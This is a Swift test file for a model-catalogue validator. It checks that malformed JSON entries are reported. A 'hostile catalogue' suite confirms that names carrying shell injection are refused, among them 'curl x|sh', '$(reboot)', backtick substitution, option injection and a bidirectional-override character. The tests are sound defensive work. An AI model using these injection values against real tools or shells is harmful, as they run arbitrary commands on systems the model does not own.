import Base
import Testing

@testable import Models

@Suite struct CatalogCheckTests {
  /// A good entry; each case spoils one thing.
  private static let good = """
    {
      "id": "good-8b", "name": "Good 8B", "family": "Good", "creator": "Us", "released": "2025-04", "license": "mit",
      "parameters": 8000000000, "text_parameters": 8000000000, "context_max": 32768, "capabilities": ["chat"],
      "architecture": {"name": "llama", "layer_count": 4, "embedding_width": 512, "head_count": 8, "kv_head_count": 2,
        "key_head_width": 64, "value_head_width": 64, "feed_forward_width": 1024, "vocabulary_size": 1000,
        "experts": {"count": 8, "used_count": 2, "expert_width": 64}, "attention_layers": [0, 3]},
      "huggingface": "us/good-8b", "gguf": ["us/good-8b-GGUF"],
      "ollama": [{"tag": "good:8b", "quantization": "Q4_K_M", "size_bytes": 4900000000}],
      "scores": [{"benchmark": "mmlu", "value": 70.5, "source": "card", "date": "2025-04"}],
      "provenance": {"parameters": ["exact", "card"]}
    }
    """

  private func findings(_ entries: [String], recomputed: Int? = nil) -> [CatalogCheck.Finding] {
    let text = "{\"models\": [\n" + entries.joined(separator: ",\n") + "\n]}"
    return CatalogCheck { _ in recomputed }.findings(in: [CatalogLoader.File(name: "x.json", bytes: Array(text.utf8))])
  }

  struct Case: CustomTestStringConvertible {
    var wrong: String
    var right: String
    var pointer: String
    var message: String
    var testDescription: String { "\(right) → \(wrong)" }

    init(_ right: String, _ wrong: String, _ pointer: String, _ message: String) {
      (self.wrong, self.right, self.pointer, self.message) = (wrong, right, pointer, message)
    }
  }

  @Test func aGoodEntryHasNoFindings() {
    #expect(findings([Self.good], recomputed: 8_010_000_000) == [])
  }

  @Test(arguments: [
    Case("\"good-8b\", \"name\"", "\"Good 8b\", \"name\"", "/models/0/id", "lower-case"),
    Case("Good 8B", "Good 70B", "/models/0/name", "70B"),
    Case("2025-04\", \"license", "April\", \"license", "/models/0/released", "month"),
    Case("\"mit\"", "\"my-own\"", "/models/0/license", "my-own"),
    Case("\"parameters\": 8000000000", "\"parameters\": 800", "/models/0/parameters", "plausible"),
    Case("\"parameters\": 8000000000", "\"parameters\": \"8B\"", "/models/0/parameters", "whole number"),
    Case(
      "\"text_parameters\": 8000000000", "\"text_parameters\": 9000000000", "/models/0/text_parameters", "more weights"),
    Case("\"context_max\": 32768", "\"context_max\": 3", "/models/0/context_max", "plausible"),
    Case(
      "\"context_max\": 32768", "\"context_max\": 32768, \"context_extended\": 4096", "/models/0/context_extended",
      "more"),
    Case("\"context_max\": 32768", "\"context_max\": 99999999999999999999999", "/models/0/context_max", "whole number"),
    Case("[\"chat\"]", "[]", "/models/0", "capability"),
    Case("[\"chat\"]", "[\"chatting\"]", "/models/0/capabilities/0", "one of"),
    Case("\"kv_head_count\": 2", "\"kv_head_count\": 3", "/models/0/architecture/kv_head_count", "do not divide"),
    Case("\"used_count\": 2", "\"used_count\": 9", "/models/0/architecture/experts/used_count", "more experts"),
    Case("[0, 3]", "[0, 4]", "/models/0/architecture/attention_layers", "no layer 4"),
    Case("\"us/good-8b\"", "\"good-8b\"", "/models/0/huggingface", "owner/name"),
    Case("us/good-8b-GGUF", "us//gguf", "/models/0/gguf/0", "owner/name"),
    Case("good:8b", "good", "/models/0/ollama/0/tag", "name:tag"),
    Case("4900000000", "490000000", "/models/0/ollama/0/size_bytes", "do not go with"),
    Case("70.5", "170.5", "/models/0/scores/0/value", "not a value"),
    Case("\"card\", \"date\"", "\"\", \"date\"", "/models/0/scores/0/source", "needs a source"),
    Case("\"2025-04\"}", "\"soon\"}", "/models/0/scores/0/date", "date"),
    Case("\"family\"", "\"famly\": \"x\", \"family\"", "/models/0/famly", "\"family\""),
    Case("\"family\": \"Good\"", "\"family\": \"Good\", \"family\": \"Bad\"", "/models/0", "twice"),
    Case("\"creator\": \"Us\",", "", "/models/0/creator", "missing"),
    Case("[\"exact\", \"card\"]", "[\"surely\"]", "/models/0/provenance/parameters/0", "one of"),
  ])
  func aSpoiledEntryIsFound(spoiled: Case) {
    let entry = Self.good.split(separator: spoiled.right, maxSplits: 1, omittingEmptySubsequences: false)
      .joined(separator: spoiled.wrong)
    let found = findings([entry])
    #expect(entry != Self.good)
    #expect(found.contains { $0.pointer == spoiled.pointer && $0.message.contains(spoiled.message) }, "\(found)")
    #expect(found.allSatisfy { $0.line > 1 && $0.file == "x.json" })
  }

  @Test func weightsThatTheDimensionsContradictAreFound() {
    #expect(findings([Self.good], recomputed: 8_100_000_000).map(\.pointer) == ["/models/0/text_parameters"])
  }

  @Test func idsAndTagsMustBeUniqueOverAllFiles() {
    let file = { (name: String) in CatalogLoader.File(name: name, bytes: Array("{\"models\": [\(Self.good)]}".utf8)) }
    let found = CatalogCheck().findings(in: [file("a.json"), file("b.json")])
    #expect(found.map(\.file) == ["b.json", "b.json"])
    #expect(Set(found.map(\.pointer)) == ["/models/0/id", "/models/0/ollama/0/tag"])
  }

  @Test func everyBrokenEntryIsReportedAndNotOnlyTheFirst() {
    let broken = "{\"id\": 1}"
    #expect(findings([broken, Self.good, broken]).map(\.pointer) == ["/models/0/id", "/models/2/id"])
  }

  @Test(arguments: ["", "[", "{\"models\": 3}", "{}", "[]", "{\"models\": [1]}", "nonsense"])
  func whatIsNoCatalogueIsAFinding(text: String) {
    let file = CatalogLoader.File(name: "x.json", bytes: Array(text.utf8))
    #expect(CatalogCheck().findings(in: [file]).count == 1)
  }

  @Test func theBuiltInCatalogueIsClean() {
    let found = CatalogCheck().findings(in: CatalogCheck.builtInFiles)
    #expect(found.filter(\.isMistake) == [])
    #expect(found.count <= 10, "models without a known file: \(found.map(\.text))")
  }

  @Test func aModelWithoutAFileIsANoteAndNoMistake() {
    let bare = Self.good.replacing(", \"gguf\": [\"us/good-8b-GGUF\"]", with: "")
      .replacing("\"tag\": \"good:8b\", \"quantization\": \"Q4_K_M\"", with: "\"tag\": \"good:8b-cloud\"")
    let found = findings([bare])
    #expect(found.map(\.pointer) == ["/models/0"])
    #expect(found.allSatisfy { !$0.isMistake && $0.message.contains("no file") })
  }
}

/// Catalogues that strangers wrote.
@Suite struct HostileCatalogTests {
  @Test(arguments: [
    ("huggingface", "\"evil/repo;curl x|sh\""), ("huggingface", "\"evil/$(reboot)\""), ("gguf", "[\"a/b\\n/c\"]"),
    ("ollama", "[{\"tag\": \"--help\"}]"), ("id", "\"x`id`\""), ("ollama", "[{\"tag\": \"m:l\u{202E}\"}]"),
  ])
  func namesThatAShellWouldActOnAreRefused(key: String, value: String) {
    var members = ["id": "\"x\"", "name": "\"X\"", "family": "\"X\"", "creator": "\"X\"", "context_max": "4096"]
    members[key] = value
    let text = "{\"models\": [{" + members.map { "\"\($0.key)\": \($0.value)" }.sorted().joined(separator: ", ") + "}]}"
    let file = CatalogLoader.File(name: "x.json", bytes: Array(text.utf8))
    let error = #expect(throws: CatalogError.self) { try CatalogLoader.load(named: [file]) }
    #expect(error?.message.contains("letters, digits") == true, "\(String(describing: error))")
  }

  @Test func aFileFullOfMistakesIsGivenUp() {
    let text = "{\"models\": [" + Array(repeating: "1", count: 5_000).joined(separator: ",\n") + "]}"
    let file = CatalogLoader.File(name: "x.json", bytes: Array(text.utf8))
    let findings = CatalogCheck().findings(in: [file])
    #expect(findings.count == CatalogCheck.mistakesUntilGivingUp + 1)
    #expect(findings.last?.message.contains("not looked at") == true)
  }
}
